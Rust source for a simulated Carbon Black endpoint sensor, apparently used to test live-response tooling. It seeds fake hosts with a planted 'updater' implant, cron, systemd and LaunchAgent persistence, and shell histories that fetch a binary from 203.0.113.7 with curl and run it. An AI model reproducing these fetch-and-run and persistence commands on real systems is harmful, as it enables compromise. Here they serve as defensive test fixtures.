                    ("ImagePath", expand("%SystemRoot%\\System32\\spoolsv.exe")),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa",
                vec![("LimitBlankPasswordUse", dword(1)), ("RunAsPPL", dword(1))],
            ),
            ("HKLM\\SYSTEM\\Select", vec![("Current", dword(1)), ("LastKnownGood", dword(1))]),
            ("HKLM\\SAM\\SAM", vec![]),
            ("HKLM\\SECURITY\\Policy", vec![]),
            (
                &user_run,
                vec![(
                    "OneDrive",
                    sz(
                        "\"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
                    ),
                )],
            ),
            ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
        ];
        self.seed_registry_keys(keys);
    }

    /// Inserts `keys` (creating missing parents) with their values.
    fn seed_registry_keys(&mut self, keys: Vec<RegSeed<'_>>) {
        for (path, values) in keys {
            if let Ok(key) = self.reg_create_key_inner(path)
                && let Some(k) = self.registry.get_mut(&key)
            {
                k.values = values
                    .into_iter()
                    .map(|(name, (ty, data))| RegValue {
                        name: name.to_owned(),
                        value_type: ty.to_owned(),
                        data,
                    })
                    .collect();
            }
        }
    }

    /// `path` and every missing ancestor as directories.
    fn seed_dir_all(&mut self, path: &str, t: i64) {
        let sep = self.sep();
        let mut prefix = String::new();
        for (i, part) in path.split(sep).enumerate() {
            if i > 0 {
                prefix.push(sep);
            }
            prefix.push_str(part);
            if part.is_empty() || (i == 0 && self.windows()) {
                continue;
            }
            if let Some(key) = self.key(&prefix)
                && !self.fs.contains_key(&key)
            {
                self.fs.insert(key, dir_node(part, t));
            }
        }
    }

    fn parent_of(&self, path: &str) -> String {
        let sep = self.sep();
        match path.trim_end_matches(sep).rsplit_once(sep) {
            Some(("", _)) => sep.to_string(),
            Some((parent, _)) => parent.to_owned(),
            None => path.to_owned(),
        }
    }

    fn seed_text(&mut self, path: &str, body: Vec<u8>, t: i64) {
        let parent = self.parent_of(path);
        self.seed_dir_all(&parent, t);
        if let Some(key) = self.key(path) {
            let name = last_component(path).to_owned();
            self.fs.insert(key, file_node(name, Content::bytes(body), t, &[]));
        }
    }

    // ----- Linux and macOS -------------------------------------------------------------------

    fn seed_unix_processes(&mut self) {
        const ROOT: (&str, &str) = ("", "root");
        let user: (&str, &str) = ("", "jdoe");
        let table: Vec<ProcSeed<'_>> = match self.os {
            SensorOs::Linux => vec![
                (1, 0, 0, "/usr/lib/systemd/systemd", "/sbin/init splash".into(), ROOT),
                (2, 0, 0, "", "[kthreadd]".into(), ROOT),
                (312, 1, 3, "/usr/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald".into(), ROOT),
                (340, 1, 3, "/usr/lib/systemd/systemd-udevd", "/lib/systemd/systemd-udevd".into(), ROOT),
                (601, 1, 6, "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE".into(), ("", "syslog")),
                (612, 1, 6, "/usr/lib/systemd/systemd-logind", "/lib/systemd/systemd-logind".into(), ROOT),
                (640, 1, 7, "/usr/sbin/cron", "/usr/sbin/cron -f -P".into(), ROOT),
                (
                    702,
                    1,
                    8,
                    "/usr/sbin/sshd",
                    "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups".into(),
                    ROOT,
                ),
                (CB_PID, 1, 9, "/usr/sbin/cbdaemon", "/usr/sbin/cbdaemon".into(), ROOT),
                (2010, 702, 95, "/usr/sbin/sshd", "sshd: jdoe [priv]".into(), ROOT),
                (2044, 2010, 96, "/usr/bin/bash", "-bash".into(), user),
                (2468, 2044, 410, "/usr/bin/vim", "vim /home/jdoe/todo.txt".into(), user),
                (3012, 1, 7_200, "/tmp/.cache/updater", "/tmp/.cache/updater --silent --beacon 300".into(), user),
            ],
            _ => vec![
                (1, 0, 0, "/sbin/launchd", "/sbin/launchd".into(), ROOT),
                (80, 1, 2, "/usr/sbin/syslogd", "/usr/sbin/syslogd".into(), ROOT),
                (90, 1, 2, "/usr/libexec/UserEventAgent", "/usr/libexec/UserEventAgent (System)".into(), ROOT),
                (120, 1, 3, "/usr/libexec/logd", "/usr/libexec/logd".into(), ROOT),
                (
                    150,
                    1,
                    4,
                    "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
                    "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer -daemon".into(),
                    ("", "_windowserver"),
                ),
                (
                    170,
                    1,
                    4,
                    "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow",
                    "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow console".into(),
                    user,
                ),
                (
                    CB_PID,
                    1,
                    9,
                    "/Applications/CarbonBlack/CbOsxSensorService",
                    "/Applications/CarbonBlack/CbOsxSensorService".into(),
                    ROOT,
                ),
                (
                    2044,
                    1,
                    95,
                    "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
                    "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder".into(),
                    user,
                ),
                (
                    2050,
                    1,
                    95,
                    "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock",
                    "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock".into(),
                    user,
                ),
                (
                    2468,
                    1,
                    410,
                    "/System/Applications/TextEdit.app/Contents/MacOS/TextEdit",
                    "/System/Applications/TextEdit.app/Contents/MacOS/TextEdit".into(),
                    user,
                ),
                (
                    3012,
                    1,
                    7_200,
                    "/Users/jdoe/Library/Application Support/.updater/updater",
                    "\"/Users/jdoe/Library/Application Support/.updater/updater\" --silent --beacon 300"
                        .into(),
                    user,
                ),
            ],
        };
        for (pid, parent, offset, path, cmd, (sid, user)) in table {
            self.spawn(pid, parent, self.boot_epoch + offset, path, cmd, sid, user);
        }
    }

    /// The directory the evidence files live in on this endpoint.
    pub(crate) fn evidence_dir(&self) -> &'static str {
        match self.os {
            SensorOs::Windows => "C:\\evidence",
            SensorOs::Linux => "/home/jdoe/evidence",
            SensorOs::MacOs => "/Users/jdoe/evidence",
        }
    }

    fn seed_unix_files(&mut self, big_file_size: u64) {
        let t0 = self.boot_epoch - 200 * 86_400;
        self.fs.insert("/".to_owned(), dir_node("", t0));
        let linux = self.os == SensorOs::Linux;
        let host = self.hostname.clone();
        let common_dirs = [
            "/bin",
            "/sbin",
            "/usr/bin",
            "/usr/sbin",
            "/usr/local/bin",
            "/var/log",
            "/var/lib/cb",
            "/var/tmp",
            "/tmp",
            "/etc",
            "/opt",
        ];
        for d in common_dirs {
            self.seed_dir_all(d, t0);
        }
        let mut binaries: Vec<(&str, u64)> = vec![
            ("/bin/bash", 1_396_520),
            ("/bin/sh", 125_688),
            ("/bin/ls", 138_208),
            ("/bin/cat", 35_280),
            ("/usr/bin/whoami", 35_328),
            ("/usr/bin/id", 39_424),
            ("/usr/bin/uname", 35_328),
            ("/usr/bin/python3", 5_904_904),
            ("/usr/bin/curl", 260_328),
        ];
        let texts: Vec<(String, Vec<u8>)> = if linux {
            for d in [
                "/boot",
                "/dev",
                "/proc",
                "/root/.ssh",
                "/home/jdoe/.ssh",
                "/etc/ssh",
                "/etc/cron.d",
                "/etc/systemd/system",
                "/usr/lib/systemd",
                "/tmp/.cache",
            ] {
                self.seed_dir_all(d, t0);
            }
            binaries.extend([
                ("/usr/bin/bash", 1_396_520),
                ("/usr/bin/hostname", 22_760),
                ("/usr/bin/vim", 3_760_128),
                ("/usr/bin/sudo", 232_416),
                ("/usr/sbin/sshd", 921_288),
                ("/usr/sbin/cron", 55_944),
                ("/usr/sbin/rsyslogd", 755_608),
                ("/usr/sbin/cbdaemon", 4_518_200),
                ("/sbin/init", 1_849_992),
                ("/usr/lib/systemd/systemd", 1_849_992),
                ("/usr/lib/systemd/systemd-journald", 158_120),
                ("/usr/lib/systemd/systemd-udevd", 792_728),
                ("/usr/lib/systemd/systemd-logind", 268_648),
                ("/boot/vmlinuz-5.15.0-91-generic", 11_649_416),
                ("/var/log/wtmp", 38_016),
                ("/var/log/btmp", 4_608),
                ("/tmp/.cache/updater", 73_216),
            ]);
            vec![
                ("/etc/hostname".into(), format!("{host}\n").into_bytes()),
                ("/etc/hosts".into(), format!("127.0.0.1 localhost\n127.0.1.1 {host}\n\n::1     ip6-localhost ip6-loopback\n").into_bytes()),
                ("/etc/passwd".into(), b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsyslog:x:104:110::/home/syslog:/usr/sbin/nologin\nsshd:x:109:65534::/run/sshd:/usr/sbin/nologin\njdoe:x:1000:1000:John Doe,,,:/home/jdoe:/bin/bash\n".to_vec()),
                ("/etc/shadow".into(), b"root:*:19400:0:99999:7:::\ndaemon:*:19400:0:99999:7:::\njdoe:$6$rounds=4096$sim$0000000000000000000000000000000000000000000:19400:0:99999:7:::\n".to_vec()),
                ("/etc/group".into(), b"root:x:0:\nsudo:x:27:jdoe\njdoe:x:1000:\n".to_vec()),
                ("/etc/os-release".into(), b"PRETTY_NAME=\"Ubuntu 22.04.3 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\nID_LIKE=debian\n".to_vec()),
                ("/etc/crontab".into(), b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n".to_vec()),
                ("/etc/cron.d/updater".into(), b"*/5 * * * * jdoe /tmp/.cache/updater --silent\n".to_vec()),
                ("/etc/ssh/sshd_config".into(), b"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nPasswordAuthentication yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n".to_vec()),
                ("/etc/sudoers".into(), b"root\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n".to_vec()),
                ("/etc/systemd/system/updater.service".into(), b"[Unit]\nDescription=System updater\n\n[Service]\nExecStart=/tmp/.cache/updater --silent\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n".to_vec()),
                ("/var/log/auth.log".into(), format!("Jan 10 09:12:01 {host} sshd[2010]: Accepted password for jdoe from 203.0.113.7 port 51022 ssh2\nJan 10 09:12:01 {host} sshd[2010]: pam_unix(sshd:session): session opened for user jdoe(uid=1000) by (uid=0)\nJan 10 09:14:37 {host} sudo:     jdoe : TTY=pts/0 ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/.cache/updater http://203.0.113.7/u\n").into_bytes()),
                ("/var/log/syslog".into(), format!("Jan 10 09:00:00 {host} systemd[1]: Started Daily apt download activities.\nJan 10 09:15:02 {host} systemd[1]: Started System updater.\n").into_bytes()),
                ("/var/log/kern.log".into(), format!("Jan 10 08:59:58 {host} kernel: [    0.000000] Linux version 5.15.0-91-generic\n").into_bytes()),
                ("/root/.bash_history".into(), b"apt update\nsystemctl status cbdaemon\n".to_vec()),
                ("/home/jdoe/.bash_history".into(), b"ls -la\nsudo curl -o /tmp/.cache/updater http://203.0.113.7/u\nchmod +x /tmp/.cache/updater\n/tmp/.cache/updater --silent &\n".to_vec()),
                ("/home/jdoe/.ssh/authorized_keys".into(), b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdrgateSimulatedKeyOnlyForTests jdoe@laptop\n".to_vec()),
                ("/home/jdoe/todo.txt".into(), b"- call IT about the weird popup\n- renew VPN cert\n".to_vec()),
            ]
        } else {
            for d in [
                "/Applications/Safari.app/Contents/MacOS",
                "/Applications/Utilities/Terminal.app/Contents/MacOS",
                "/Applications/CarbonBlack",
                "/System/Library/CoreServices/Finder.app/Contents/MacOS",
                "/System/Library/CoreServices/Dock.app/Contents/MacOS",
                "/System/Library/CoreServices/loginwindow.app/Contents/MacOS",
                "/System/Library/LaunchDaemons",
                "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources",
                "/System/Applications/TextEdit.app/Contents/MacOS",
                "/Library/LaunchAgents",
                "/Library/LaunchDaemons",
                "/Users/Shared",
                "/Users/jdoe/Desktop",
                "/Users/jdoe/Documents",
                "/Users/jdoe/Downloads",
                "/Users/jdoe/Library/LaunchAgents",
                "/Users/jdoe/Library/Application Support/.updater",
                "/usr/libexec",
                "/private/var/log",
            ] {
                self.seed_dir_all(d, t0);
            }
            binaries.extend([
                ("/bin/zsh", 1_361_200),
                ("/bin/hostname", 51_344),
                ("/sbin/launchd", 1_049_024),
                ("/usr/sbin/syslogd", 206_320),
                ("/usr/sbin/sshd", 1_145_168),
                ("/usr/libexec/UserEventAgent", 134_832),
                ("/usr/libexec/logd", 1_061_760),
                ("/Applications/Safari.app/Contents/MacOS/Safari", 33_136),
                ("/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 5_101_760),
                ("/Applications/CarbonBlack/CbOsxSensorService", 6_871_424),
                ("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", 8_632_320),
                ("/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", 6_101_408),
                ("/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", 2_930_816),
                ("/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer", 152_464),
                ("/System/Applications/TextEdit.app/Contents/MacOS/TextEdit", 509_232),
                ("/Users/jdoe/Library/Application Support/.updater/updater", 73_216),
            ]);
            vec![
                ("/etc/hosts".into(), b"##\n# Host Database\n##\n127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n".to_vec()),
                ("/etc/passwd".into(), b"##\n# User Database\n##\nnobody:*:-2:-2:Unprivileged User:/var/empty:/usr/bin/false\nroot:*:0:0:System Administrator:/var/root:/bin/sh\n_windowserver:*:88:88:WindowServer:/var/empty:/usr/bin/false\n".to_vec()),
                ("/var/log/system.log".into(), format!("Jan 10 09:15:02 {host} launchd[1]: Service com.apple.updater started\n").into_bytes()),
                ("/var/log/install.log".into(), format!("2024-01-10 09:01:44-08 {host} installd[512]: Installed \"Carbon Black Sensor\"\n").into_bytes()),
                ("/Library/LaunchDaemons/com.carbonblack.daemon.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.carbonblack.daemon</string><key>Program</key><string>/Applications/CarbonBlack/CbOsxSensorService</string></dict></plist>\n".to_vec()),
                ("/System/Library/LaunchDaemons/ssh.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.openssh.sshd</string></dict></plist>\n".to_vec()),
                ("/Users/jdoe/Library/LaunchAgents/com.apple.updater.plist".into(), b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.updater</string><key>ProgramArguments</key><array><string>/Users/jdoe/Library/Application Support/.updater/updater</string><string>--silent</string></array><key>RunAtLoad</key><true/></dict></plist>\n".to_vec()),
                ("/Users/jdoe/.zsh_history".into(), b": 1704877000:0;curl -o ~/Library/Application\\ Support/.updater/updater http://203.0.113.7/u\n: 1704877010:0;chmod +x ~/Library/Application\\ Support/.updater/updater\n".to_vec()),
                ("/Users/jdoe/Desktop/todo.txt".into(), b"- call IT about the weird popup\n- renew VPN cert\n".to_vec()),
            ]
        };
        for (path, size) in binaries {
            let parent = self.parent_of(path);
            self.seed_dir_all(&parent, t0);
            self.seed_synthetic(path, size, &[], t0);
        }
        for (path, body) in texts {
            self.seed_text(&path, body, t0);
        }
        let evidence = self.evidence_dir();
        self.seed_dir_all(evidence, t0);
        self.seed_synthetic(&format!("{evidence}/big.bin"), big_file_size, &[], t0);
        self.seed_text(&format!("{evidence}/note.txt"), NOTE_TXT.as_bytes().to_vec(), t0);
        self.seed_text(&format!("{evidence}/empty.txt"), Vec::new(), t0);
        self.seed_text(
            &format!("{evidence}/host.txt"),
            format!("Hostname: {host}\n").into_bytes(),
            t0,
        );
    }

    // ----- inspection helpers (used by tests through `Simulator`) ------------------------

    pub(crate) fn process_exists(&self, pid: u64) -> bool {
        self.processes.iter().any(|p| p.pid == pid)
    }

    pub(crate) fn file(&self, path: &str) -> Option<Content> {
        let key = self.key(path)?;
        self.fs.get(&key).filter(|n| !n.dir).map(|n| n.content.clone())
    }

    pub(crate) fn path_exists(&self, path: &str) -> bool {
        self.key(path).is_some_and(|k| self.fs.contains_key(&k))
    }

    pub(crate) fn registry_value(&self, key: &str, value: &str) -> Option<Value> {
        let (lower, _) = norm_reg(key)?;
        let k = self.registry.get(&lower)?;
        k.values.iter().find(|v| v.name.eq_ignore_ascii_case(value)).map(|v| v.data.clone())
    }

    pub(crate) fn registry_key_exists(&self, key: &str) -> bool {
        norm_reg(key).is_some_and(|(lower, _)| self.registry.contains_key(&lower))
    }

    pub(crate) fn file_size(&self, path: &str) -> Option<u64> {
        self.file(path).map(|c| c.len())
    }

    // ----- command dispatch --------------------------------------------------------------

    /// Execute one command (§4.3). `now` is the completion time in epoch seconds.
    pub(crate) fn execute(&mut self, cmd: &CommandInput, now: i64) -> Result<Executed, Hresult> {
        let mut out = Executed::default();
        match cmd.name.as_str() {
            "process list" => {
                out.fields.insert("processes".into(), self.process_list());
            }
            "kill" => self.kill(&cmd.object)?,
            "get file" => {
                let content = self.read_file(cmd.object_str()?)?;
                let offset = cmd.number("offset").unwrap_or(0);
                // A sensor that ignores `get_count` sends the rest of the file.
                let count = cmd.number("get_count").filter(|_| !self.ignores_get_count);
                out.fetched = Some(content.slice(offset, count));
            }
            "put file" => {
                let content = cmd.upload.clone().ok_or(Hresult::FILE_NOT_FOUND)?;
                self.write_file(cmd.object_str()?, content, false, now)?;
            }
            "delete file" => self.delete_file(cmd.object_str()?)?,
            "create directory" => self.create_directory(cmd.object_str()?, now)?,
            "directory list" => {
                let files = self.directory_list(cmd.object_str()?)?;
                out.fields.insert("files".into(), Value::Array(files));
            }
            "create process" => {
                let (pid, rc) = self.create_process(cmd, now)?;
                out.fields.insert("pid".into(), pid.into());
                if let Some(rc) = rc {
                    out.fields.insert("return_code".into(), rc.into());
                }
            }
            "memdump" => {
                let mut path = cmd.object_str()?.to_owned();
                // cbapi expects `<name>.zip` when it asked for compression (§4.3 / §5.4).
                if cmd.flag("compress") {
                    path.push_str(".zip");
                }
                let size =
                    if cmd.flag("compress") { self.memdump_size / 3 } else { self.memdump_size };
                let key = self.key(&path).ok_or(Hresult::INVALID_PARAMETER)?;
                let content = Content::synthetic(seed_for(self.sensor_id, &key), size);
                self.write_file(&path, content, false, now)?;
                out.fields.insert("return_code".into(), 0.into());
                out.fields.insert("complete".into(), true.into());
                out.fields.insert("percentdone".into(), 100.into());
                out.fields.insert("dumping".into(), false.into());
                out.fields.insert("compressing".into(), false.into());
            }
            "reg enum key" => {
                let (values, sub_keys) = self.reg_enum_key(cmd.object_str()?)?;
                out.fields.insert("values".into(), Value::Array(values));
                out.fields.insert("sub_keys".into(), Value::Array(sub_keys));
            }
            "reg query value" => {
                let v = self.reg_query_value(cmd.object_str()?)?;
                out.fields.insert("value".into(), v);
            }
            "reg create key" => {
                let path = cmd.object_str()?;
                check_reg_writable(path)?;
                self.reg_create_key_inner(path)?;
            }
            "reg delete key" => self.reg_delete_key(cmd.object_str()?)?,
            "reg delete value" => self.reg_delete_value(cmd.object_str()?)?,
            "reg set value" => self.reg_set_value(cmd)?,
            _ => return Err(Hresult::INVALID_PARAMETER),
        }
        Ok(out)
    }

    fn process_list(&self) -> Value {
        Value::Array(
            self.processes
                .iter()
                .map(|p| {
                    json!({
                        "username": p.username,
                        "parent": p.parent,
                        "parent_guid": p.parent_guid,
                        "pid": p.pid,
                        "command_line": p.command_line,
                        "create_time": p.create_time,
                        "sid": p.sid,
                        "path": p.path,
                        "proc_guid": p.proc_guid,
                    })
                })
                .collect(),
        )
    }

    fn kill(&mut self, object: &Value) -> Result<(), Hresult> {
        // cbapi sends the pid as an int, CLI tools as a string (§4.3).
        let pid = as_u64_lenient(object).ok_or(Hresult::INVALID_PARAMETER)?;
        let idx =
            self.processes.iter().position(|p| p.pid == pid).ok_or(Hresult::INVALID_PARAMETER)?;
        // TerminateProcess on System/PPL processes and on the tamper-protected sensor fails;
        // on Unix, init (pid 1), kernel threads and the sensor itself refuse (EPERM).
        let protected = [
            "smss.exe",
            "csrss.exe",
            "wininit.exe",
            "services.exe",
            "lsass.exe",
            "cb.exe",
            "msmpeng.exe",
            "cbdaemon",
            "cbosxsensorservice",
            "launchd",
            "systemd",
        ];
        let p = &self.processes[idx];
        let name = last_component(&p.path).to_lowercase();
        if p.pid <= 4 || (!p.path.is_empty() && protected.contains(&name.as_str())) {
            return Err(Hresult::ACCESS_DENIED);
        }
        self.processes.remove(idx);
        Ok(())
    }

    /// Resolve a path to its node key, distinguishing a missing file from a missing parent.
    fn lookup(&self, path: &str) -> Result<(String, &FsNode), Hresult> {
        let key = self.key(path).ok_or(Hresult::INVALID_PARAMETER)?;
        check_drive(&key)?;
        match self.fs.get(&key) {
            Some(node) => Ok((key, node)),
            None => Err(self.missing(&key)),
        }
    }

    fn missing(&self, key: &str) -> Hresult {
        match parent_key(key) {
            Some(parent) if self.fs.get(&parent).is_some_and(|n| n.dir) => Hresult::FILE_NOT_FOUND,
            _ => Hresult::PATH_NOT_FOUND,
        }
    }

    fn read_file(&self, path: &str) -> Result<Content, Hresult> {
        let (key, node) = self.lookup(path)?;
        if is_protected(&key) || node.dir {
            return Err(Hresult::ACCESS_DENIED);
        }
        if is_locked(&key) {
            return Err(Hresult::SHARING_VIOLATION);
        }
        Ok(node.content.clone())
    }

    /// Create (or with `overwrite`, replace) a file; the parent directory must exist.
    fn write_file(
        &mut self,
        path: &str,
        content: Content,
        overwrite: bool,
        now: i64,
    ) -> Result<(), Hresult> {
        let key = self.key(path).ok_or(Hresult::INVALID_PARAMETER)?;
        check_drive(&key)?;
        if is_protected(&key) {
            return Err(Hresult::ACCESS_DENIED);
        }
        match self.fs.get(&key) {
            Some(n) if n.dir => return Err(Hresult::ACCESS_DENIED),
            Some(_) if !overwrite => return Err(Hresult::FILE_EXISTS),
            Some(_) if is_locked(&key) || self.is_running_image(&key) => {
                return Err(Hresult::SHARING_VIOLATION);
            }
            Some(_) => {}
            None => {
                let parent = parent_key(&key).ok_or(Hresult::INVALID_PARAMETER)?;
                if !self.fs.get(&parent).is_some_and(|n| n.dir) {
                    return Err(Hresult::PATH_NOT_FOUND);
                }
            }
        }
        let node = file_node(last_component(path).to_owned(), content, now, &[]);
        self.fs.insert(key, node);
        Ok(())
    }

    fn is_running_image(&self, key: &str) -> bool {
        self.processes.iter().any(|p| self.key(&p.path).is_some_and(|k| k == key))
    }

    fn delete_file(&mut self, path: &str) -> Result<(), Hresult> {
        let (key, node) = self.lookup(path)?;
        // DeleteFile on a directory, a protected hive or a running image is refused.
        if node.dir || is_protected(&key) || self.is_running_image(&key) {
            return Err(Hresult::ACCESS_DENIED);
        }
        if is_locked(&key) {
            return Err(Hresult::SHARING_VIOLATION);
        }
        self.fs.remove(&key);
        Ok(())
    }

    /// `CreateDirectory` semantics: no intermediate directories, existing path is an error.
    fn create_directory(&mut self, path: &str, now: i64) -> Result<(), Hresult> {
        let key = self.key(path).ok_or(Hresult::INVALID_PARAMETER)?;
        check_drive(&key)?;
        if self.fs.contains_key(&key) {
            return Err(Hresult::ALREADY_EXISTS);
        }
        let parent = parent_key(&key).ok_or(Hresult::ALREADY_EXISTS)?;
        if !self.fs.get(&parent).is_some_and(|n| n.dir) {
            return Err(Hresult::PATH_NOT_FOUND);
        }
        if is_protected(&key) {
            return Err(Hresult::ACCESS_DENIED);
        }
        self.fs.insert(key, dir_node(last_component(path), now));
        Ok(())
    }

    /// `directory list` with `FindFirstFile` semantics (§4.3): a trailing `\` or a wildcard
    /// last component lists matching children (with `.`/`..` outside a drive root); a plain
    /// path names exactly one entry — the file or directory itself.
    fn directory_list(&self, filter: &str) -> Result<Vec<Value>, Hresult> {
        let windows = self.windows();
        let sep = self.sep();
        let mut filter = if windows { filter.replace('/', "\\") } else { filter.trim().to_owned() };
        if filter.ends_with(sep) || (windows && filter.len() == 2 && filter.ends_with(':')) {
            // CLI0 appends `*` to a trailing `\` itself; accept the bare form too.
            if !filter.ends_with(sep) {
                filter.push(sep);
            }
            filter.push('*');
        }
        let (dir_part, last) = filter.rsplit_once(sep).ok_or(Hresult::INVALID_PARAMETER)?;
        if !last.contains(['*', '?']) {
            let (_, node) = self.lookup(&filter)?;
            return Ok(vec![entry_json(&node.name, node, windows)]);
        }
        let dir_key = self.key(&format!("{dir_part}{sep}")).ok_or(Hresult::INVALID_PARAMETER)?;
        check_drive(&dir_key)?;
        let dir = self.fs.get(&dir_key).filter(|n| n.dir).ok_or(Hresult::PATH_NOT_FOUND)?;
        let pattern = if last == "*.*" { "*" } else { last };
        // Linux file names are case-sensitive; Windows and macOS (by default) are not.
        let matches = |name: &str| {
            if self.os == SensorOs::Linux {
                wildmatch::WildMatch::new(pattern).matches(name)
            } else {
                glob(pattern, name)
            }
        };
        let mut out = Vec::new();
        if !dir_key.ends_with(sep) && matches(".") {
            out.push(entry_json(".", dir, windows));
            out.push(entry_json("..", dir, windows));
        }
        let mut children: Vec<&FsNode> = self.children(&dir_key).collect();
        children.sort_by_key(|n| n.name.to_lowercase());
        out.extend(
            children
                .into_iter()
                .filter(|n| matches(&n.name))
                .map(|n| entry_json(&n.name, n, windows)),
        );
        if out.is_empty() {
            return Err(Hresult::FILE_NOT_FOUND);
        }
        Ok(out)
    }

    fn children<'a>(&'a self, dir_key: &str) -> impl Iterator<Item = &'a FsNode> + 'a {
        let sep = self.sep();
        let prefix =
            if dir_key.ends_with(sep) { dir_key.to_owned() } else { format!("{dir_key}{sep}") };
        let plen = prefix.len();
        self.fs
            .range(prefix.clone()..)
            .take_while(move |(k, _)| k.starts_with(&prefix))
            .filter(move |(k, _)| k.len() > plen && !k[plen..].contains(sep))
            .map(|(_, n)| n)
    }

    // ----- create process ----------------------------------------------------------------

    /// §4.3 `create process`: runs a tiny model of a few Windows programs so `output_file`
    /// and `return_code` carry believable, deterministic values.
    fn create_process(
        &mut self,
        cmd: &CommandInput,
        now: i64,
    ) -> Result<(u64, Option<i64>), Hresult> {
        let command_line = cmd.object_str()?.to_owned();
        let cwd = match cmd.string("working_directory") {
            Some(dir) => {
                let key = self.key(dir).ok_or(Hresult::DIRECTORY)?;
                if !self.fs.get(&key).is_some_and(|n| n.dir) {
                    return Err(Hresult::DIRECTORY);
                }
                key
            }
            None => self.key(self.default_cwd()).ok_or(Hresult::DIRECTORY)?,
        };
        let (exe, args) = split_command_line(&command_line);
        let exe_key = self.resolve_exe(&exe, &cwd)?;
        let wait = cmd.flag("wait");
        let (output, rc, long_running) = self.run_program(&exe_key, &args, &cwd);
        if let Some(out_path) = cmd.string("output_file") {
            let full = self.resolve_relative(out_path, &cwd).ok_or(Hresult::INVALID_PARAMETER)?;
            self.write_file(&full, Content::bytes(output.into_bytes()), true, now)?;
        }
        let pid = self.next_pid;
        self.next_pid += 4;
        if long_running && !wait {
            self.spawn(
                pid,
                CB_PID,
                now,
                &exe_key,
                command_line,
                if self.windows() { "s-1-5-18" } else { "" },
                if self.windows() { "NT AUTHORITY\\SYSTEM" } else { "root" },
            );
        }
        Ok((pid, wait.then_some(rc)))
    }

    /// The sensor's working directory (the session's `current_working_directory`, §3.1).
    pub(crate) fn default_cwd(&self) -> &'static str {
        match self.os {
            SensorOs::Windows => "C:\\Windows\\CarbonBlack",
            // Where the Linux and OS X sensors keep their data (inferred).
            SensorOs::Linux | SensorOs::MacOs => "/var/lib/cb",
        }
    }

    fn resolve_exe(&self, exe: &str, cwd: &str) -> Result<String, Hresult> {
        if !self.windows() {
            return self.resolve_unix_exe(exe, cwd);
        }
        let mut bases = Vec::new();
        if exe.contains('\\') || exe.contains(':') {
            bases.extend(self.resolve_relative(exe, cwd));
        } else {
            for dir in [
                cwd,
                "c:\\windows\\system32",
                "c:\\windows",
                "c:\\windows\\system32\\windowspowershell\\v1.0",
            ] {
                bases.push(format!("{dir}\\{exe}"));
            }
        }
        for base in bases {
            for candidate in [base.clone(), format!("{base}.exe")] {
                if let Some(key) = self.key(&candidate) {
                    match self.fs.get(&key) {
                        Some(n) if n.dir => return Err(Hresult::ACCESS_DENIED),
                        Some(_) => return Ok(key),
                        None => {}
                    }
                }
            }
        }
        Err(Hresult::FILE_NOT_FOUND)
    }

    /// `execve` semantics: a path is taken as is (relative to the working directory), a bare
    /// name is looked up on the default `PATH`.
    fn resolve_unix_exe(&self, exe: &str, cwd: &str) -> Result<String, Hresult> {
        let candidates: Vec<String> = if exe.contains('/') {
            self.resolve_relative(exe, cwd).into_iter().collect()
        } else {
            ["/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin"]
                .iter()
                .map(|d| format!("{d}/{exe}"))
                .collect()
        };
        for c in candidates {
            if let Some(key) = self.key(&c) {
                match self.fs.get(&key) {
                    Some(n) if n.dir => return Err(Hresult::ACCESS_DENIED),
                    Some(_) => return Ok(key),
                    None => {}
                }
            }
        }
        Err(Hresult::FILE_NOT_FOUND)
    }

    /// A tiny model of a few Unix programs (Linux and macOS): `sh -c`, `whoami`, `id`,
    /// `hostname`, `uname`, `cat`.
    fn run_unix_program(&self, exe_key: &str, args: &str, cwd: &str) -> (String, i64, bool) {
        let base = last_component(exe_key);
        match base {
            "sh" | "bash" | "zsh" => match args.trim_start().strip_prefix("-c") {
                Some(rest) => {
                    let (out, rc) = self.run_sh_builtin(unquote_any(rest.trim()), cwd);
                    (out, rc, false)
                }
                None => (String::new(), 0, false),
            },
            "whoami" => ("root\n".into(), 0, false),
